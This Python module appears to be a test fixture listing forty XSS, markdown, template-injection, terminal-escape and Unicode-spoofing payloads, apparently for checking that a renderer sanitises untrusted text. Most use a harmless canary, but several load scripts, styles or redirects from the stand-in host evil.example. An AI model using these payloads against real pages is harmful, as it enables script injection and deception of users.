"""Texts by which a stranger would run something in a reader's page, or deceive the reader: forty, each as it is used.

A script that runs sets `window.__x`; an element that comes of one has `data-x`; what is loaded is `evil.example`'s.
"""

from typing import Final

LINE_BYTES: Final = 64 * 1024
"""Bytes of a line without an end, as many as an answer may have."""

PAYLOADS: Final = (
    "<script data-x>window.__x = 1</script>",
    '<script data-x src="http://evil.example/x.js"></script>',
    '<script data-x type="module">import "http://evil.example/x.js"</script>',
    '<img data-x src=x onerror="window.__x = 1">',
    '"><img data-x src="http://evil.example/x.png">',
    "'><img data-x src=x onerror=window.__x=1>",
    "<svg data-x onload=window.__x=1><circle r=9></svg>",
    "<svg data-x><script>window.__x = 1</script></svg>",
    '<svg data-x><a xlink:href="javascript:window.__x=1"><text y="20">x</text></a></svg>',
    '<svg data-x><animate onbegin="window.__x=1" attributeName="x" dur="1s"></svg>',
    '<svg data-x><foreignObject><body onload="window.__x=1"></foreignObject></svg>',
    '<math data-x><mtext><table><mglyph><style><img src=x onerror="window.__x=1"></style></table></mtext></math>',
    '<iframe data-x srcdoc="<script>parent.__x = 1</script>"></iframe>',
    '<iframe data-x src="javascript:parent.__x=1"></iframe>',
    '<object data-x data="http://evil.example/x.swf"></object>',
    '<embed data-x src="http://evil.example/x.pdf">',
    '<video data-x><source onerror="window.__x=1"></video>',
    '<details data-x open ontoggle="window.__x=1">x</details>',
    '<input data-x autofocus onfocus="window.__x=1">',
    '<style data-x>@import "http://evil.example/x.css"; * { display: none }</style>',
    '<link data-x rel=stylesheet href="http://evil.example/x.css">',
    '<meta data-x http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base data-x href="http://evil.example/">',
    '<form data-x action="http://evil.example/"><button autofocus>x</button></form>',
    '<div data-x style="position:fixed;inset:0;background:url(http://evil.example/x.png)">x</div>',
    "</textarea></title></script></style><b data-x>x</b>",
    "<!--><img data-x src=x onerror=window.__x=1>-->",
    "<template data-x><img src=x onerror=window.__x=1></template><slot data-x></slot>",
    "[x](javascript:window.__x=1) <javascript:window.__x=1>",
    "![x](http://evil.example/x.png) ![x](javascript:window.__x=1)",
    '```html\n<img data-x src=x onerror=window.__x=1>\n```\n~~~"><b data-x>\nx\n~~~',
    "`</code><img data-x src=x onerror=window.__x=1><code>`",
    "javascript:window.__x=1//",
    "data:text/html,<script data-x>parent.__x=1</script>",
    "${window.__x = 1} {{constructor.constructor('window.__x=1')()}} <%= window.__x = 1 %> #{window.__x=1}",
    "__proto__ constructor toString hasOwnProperty valueOf",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x07\x08\x7f\x9b31m",
    "\u202efdp.exe\u202c \u2066\u2067\u2068\u2069 \u200b\u200d\ufeff\u00ad a\u0300\u0300\u0300\u0300 \U000e0041",
    "<b data-x>" + "x" * LINE_BYTES,
    "fn f() { " + "</span><img data-x src=x onerror=window.__x=1>" * (LINE_BYTES // 50) + " }",
)
